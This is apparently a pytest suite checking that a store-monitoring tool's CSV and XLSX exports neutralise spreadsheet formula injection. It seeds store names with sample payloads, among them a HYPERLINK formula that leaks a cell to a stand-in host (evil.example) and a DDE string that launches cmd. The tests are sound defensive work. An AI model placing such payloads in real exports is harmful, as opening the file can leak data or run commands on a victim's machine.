"""Data never becomes a spreadsheet formula, on every export path: the command line's CSV, the
weekly and regional reports (CSV and XLSX) and the generic table export."""

from __future__ import annotations

import csv
import sqlite3
from dataclasses import dataclass

import pytest
from openpyxl import load_workbook

from storemon.cli import main
from storemon.services.export import write_csv, write_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"open me")', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]


@pytest.fixture
def hostile_demo(storemon_home, capsys):
    main(["demo", "--stores", "3", "--weeks", "2", "--anchor", "2026-03-09"])
    with sqlite3.connect(storemon_home / "data" / "storemon.sqlite3") as conn:
        ids = [row[0] for row in conn.execute("SELECT id FROM stores ORDER BY code")]
        for store_id, name in zip(ids, HOSTILE, strict=True):
            conn.execute("UPDATE stores SET name = ? WHERE id = ?", (name, store_id))
        conn.execute("UPDATE regions SET name = ?", ("\t=1+1",))
        conn.execute("UPDATE staff_members SET name = ? || code", (HOSTILE[0],))
    capsys.readouterr()
    return storemon_home


def _no_formula_and_every_name_kept(path) -> None:
    book = load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert any(HOSTILE[0] in text for text in texts), "the hostile store name is missing from the export"


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(text.splitlines()) for cell in row]


def _assert_inert(cells: list[str]) -> None:
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    assert "'" + HOSTILE[0] in cells or any(("'" + HOSTILE[0]) in c for c in cells)


def test_the_command_lines_csv_is_inert(hostile_demo, capsys):
    assert main(["report", "stores", "--format", "csv"]) == 0
    _assert_inert(_csv_cells(capsys.readouterr().out))


@pytest.mark.parametrize("kind", ["weekly", "regional"])
def test_report_files_are_inert_in_csv_and_xlsx(hostile_demo, tmp_path, capsys, kind):
    scope = ["--store", "SH001"] if kind == "weekly" else []
    for suffix in ("csv", "xlsx"):
        out = tmp_path / f"{kind}.{suffix}"
        assert main(["report", kind, *scope, "--week", "2026-W10", "--output", str(out)]) == 0, (
            capsys.readouterr()
        )
        if suffix == "csv":
            _assert_inert(_csv_cells(out.read_text(encoding="utf-8-sig")))
        else:
            _no_formula_and_every_name_kept(out)


@dataclass(frozen=True)
class Row:
    store: str
    orders: int


def test_the_generic_table_export_is_inert(tmp_path):
    rows = [Row(name, n) for n, name in enumerate(HOSTILE)] + [Row("\r=1", 9), Row("+1", 10)]
    write_csv(tmp_path / "t.csv", rows)
    cells = _csv_cells((tmp_path / "t.csv").read_text(encoding="utf-8-sig"))
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    write_xlsx(tmp_path / "t.xlsx", rows)
    sheet = load_workbook(tmp_path / "t.xlsx").active
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    assert sheet["A2"].value == HOSTILE[0]  # kept as the text it is
